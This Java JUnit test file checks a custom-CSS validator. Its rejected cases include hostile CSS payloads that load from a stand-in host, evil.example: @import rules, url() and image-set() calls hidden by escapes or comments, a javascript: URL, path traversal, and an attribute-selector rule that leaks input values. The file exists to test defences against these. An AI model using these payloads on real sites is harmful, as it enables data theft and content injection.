package org.travessia.settings.entity;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CustomCssTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                ".prose { max-width: 70ch; }",
                "@media (min-width: 40rem) { .a { color: color-mix(in oklab, var(--accent) 20%, transparent) } }",
                "@container (width > 30em) { .a:has(> b):not(.c) { & > d { color: #abc } } }",
                ".a::before { content: \"https://example.com is only a text: { ( [ \" }",
                ".a::before { content: '\\201C' } /* a comment with ' and url(http://x) */",
                ".a { background: url(/media/0a/b.png) }",
                ".a { background: URL( '/media/0a/b.png' ) no-repeat }",
                ".a { filter: url(#shadow) }",
                "@font-face { font-family: Mine; src: url(\"/media/0a/mine.woff2\") }",
                ":root { --accent: light-dark(#036, #9cf) }",
                "a[href^=\"https://\"]::after { content: \"↗\" }",
                ".a\\:b { margin: -1.5e-2em +3px }"
            })
    void what_a_style_sheet_may_hold(String css) {
        assertThat(CustomCss.problemOf(css)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "@import 'https://evil.example/a.css';",
                "@import url(/media/a.css);",
                "@\\69mport '/a.css';",
                "@IMPORT \"a\";",
                ".a { background: url(https://evil.example/x) }",
                ".a { background: url(//evil.example/x) }",
                ".a { background: url('//evil.example/x') }",
                ".a { background: url( \"https://evil.example/x\" ) }",
                ".a { background: u\\72l(https://evil.example/x) }",
                ".a { background: \\75 rl(https://evil.example/x) }",
                ".a { background: url(\\2f\\2f evil.example/x) }",
                ".a { background: url('\\68ttps://evil.example') }",
                ".a { background: url(data:image/png;base64,AAAA) }",
                ".a { background: url(javascript:alert(1)) }",
                ".a { background: url(/language/en) }",
                ".a { background: url(/media/../language/en) }",
                ".a { background: url(/media/%2e%2e/language/en) }",
                ".a { background: url(/media/a\\b) }",
                ".a { background: image-set('https://evil.example/x' 1x) }",
                ".a { background: -webkit-image-set(\"https://evil.example/x\" 1x) }",
                ".a { background: image-set(var(--x) 1x) }",
                ".a { background: image-set(attr(data-x) 1x) }",
                ".a { background: image-set(--mine() 1x) }",
                ".a { background: cross-fade('https://evil.example/x', red) }",
                ".a { background: src('https://evil.example/x') }",
                "input[value^=a] { background: url(https://evil.example/a) }",
                "/**/.a{background:/**/url(/**/https://evil.example/x)}",
                "@font-face { src: url(https://evil.example/f.woff2) }",
                "@namespace url(http://www.w3.org/1999/xhtml);",
                "@charset \"UTF-7\";"
            })
    void what_it_must_not_load(String css) {
        assertThat(CustomCss.problemOf(css))
                .hasValueSatisfying(problem -> assertThat(problem.kind()).isIn("address", "rule"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ".a {",
                ".a { color: red }}",
                ".a { color: rgb(0 0 0 }",
                ".a { content: \"open }",
                ".a { content: 'over\nlines' }",
                "/* open",
                ".a[href { }",
                "a\u0000b",
                "a\u0001b",
                "a{content:\"\f}body{background:url(https://evil.example/x)}a{b:\"}",
                "/* \r */",
                "a { content: '\u0085' }",
                ".a { background: url(",
                "\\"
            })
    void what_would_cut_off_what_comes_after(String css) {
        assertThat(CustomCss.problemOf(css)).isPresent();
    }

    @Test
    void a_problem_names_its_line() {
        String css = "/* one\ntwo */\n.a { color: red }\n\n.b { background:\n  url(https://evil.example/x) }";

        assertThat(CustomCss.problemOf(css)).hasValueSatisfying(problem -> {
            assertThat(problem.line()).isEqualTo(6);
            assertThat(problem.what()).isEqualTo("https://evil.example/x");
        });
    }

    @Test
    void the_longest_costs_no_time() {
        for (String piece : new String[] {"{", "(", "\\", "a(", "\"", "url(", "/*", "image-set(", "@"}) {
            String css = piece.repeat(CustomCss.MAX_LENGTH / piece.length());
            Assertions.assertTimeoutPreemptively(Duration.ofSeconds(5), () -> CustomCss.problemOf(css), piece);
        }
    }
}
